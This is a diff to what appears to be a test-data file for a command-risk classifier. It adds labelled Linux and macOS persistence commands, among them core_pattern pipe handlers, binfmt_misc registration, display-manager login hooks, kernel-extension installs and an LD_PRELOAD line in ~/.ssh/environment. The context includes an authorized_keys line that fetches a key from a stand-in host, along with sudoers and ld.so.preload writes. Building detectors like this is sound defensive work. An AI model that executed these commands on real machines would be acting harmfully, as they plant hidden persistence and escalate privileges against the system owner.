@@ -166,6 +166,16 @@ SYSTEM_HOOKS = [
     ),
     ("doas tee -a /etc/ld.so.preload <<< /tmp/x.so", CRITICAL),
     ("sudo sh -c 'printf \"%s\\n\" /tmp/l.so > /etc/ld.so.preload'", CRITICAL),
+    ("printf 'session-setup-script=/tmp/.s\\n' | sudo tee -a /etc/lightdm/lightdm.conf", HIGH),
+    ("echo '/tmp/.x &' | sudo tee /etc/gdm3/PostLogin/Default", HIGH),
+    ("echo 'kernel.core_pattern=|/tmp/.c %p' | sudo tee /etc/sysctl.d/99-core.conf", HIGH),
+    ("echo '|/tmp/.c %p' | sudo tee /proc/sys/kernel/core_pattern", HIGH),
+    ("sudo sysctl -w kernel.core_pattern='|/opt/x/handler %p'", HIGH),
+    ("echo ':x:M::MZ::/tmp/.i:' | sudo tee /proc/sys/fs/binfmt_misc/register", HIGH),
+    ("sudo cp -R evil.kext /Library/Extensions/", HIGH),
+    ("sudo cp -R Hook.bundle /Library/Security/SecurityAgentPlugins/", HIGH),
+    ("sudo cp rule.plist /etc/emond.d/rules/", HIGH),
+    ("sudo cp x.desktop /usr/share/gnome/autostart/", HIGH),
 ]
 
 ACCESS_KEPT = [
@@ -186,6 +196,7 @@ ACCESS_KEPT = [
     ("sudo sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", HIGH),
     ('echo "$(wget -qO- http://x.example/k)" >> ~/.ssh/authorized_keys', CRITICAL),
     ("sudo bash -c \"echo 'bob ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/bob\"", CRITICAL),
+    ("echo 'LD_PRELOAD=/tmp/x.so' >> ~/.ssh/environment", HIGH),
 ]
 
 UNITS_AND_AGENTS = [
@@ -726,6 +737,23 @@ PERSISTENCE_NEAR = [
         MODERATE,
     ),
     ("brew --prefix openssl@3", SAFE),
+    ("sudo sysctl -w kernel.core_pattern='|/usr/share/apport/apport %p %s %c %d %P %E'", MODERATE),
+    ("sudo sysctl -w kernel.core_pattern=core.%p", MODERATE),
+    (
+        "echo ':qemu-arm:M::\\x7fELF::/usr/bin/qemu-arm-static:F' | sudo tee "
+        "/proc/sys/fs/binfmt_misc/register",
+        MODERATE,
+    ),
+    (
+        "printf 'greeter-session=lightdm-gtk-greeter\\n' | sudo tee -a /etc/lightdm/lightdm.conf",
+        MODERATE,
+    ),
+    (
+        "printf 'display-setup-script=/usr/bin/xrandr --output HDMI-1 --primary\\n' | sudo "
+        "tee -a /etc/lightdm/lightdm.conf",
+        MODERATE,
+    ),
+    ("cat /proc/sys/kernel/core_pattern", SAFE),
 ]
 
 SCHEDULING_NEAR = [
